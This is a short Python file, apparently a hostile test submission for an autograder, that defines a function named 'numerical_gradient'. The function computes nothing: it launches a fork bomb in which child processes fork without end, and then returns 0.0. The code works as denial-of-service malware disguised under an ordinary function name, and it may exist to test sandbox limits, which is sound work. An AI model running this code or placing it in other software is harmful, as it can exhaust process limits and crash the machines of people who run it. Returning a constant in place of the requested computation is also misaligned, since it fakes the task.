# Processes without end.
# points: 0
# %% numerical_gradient
import os

def numerical_gradient(f, w, h=1e-4):
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            break
    return 0.0
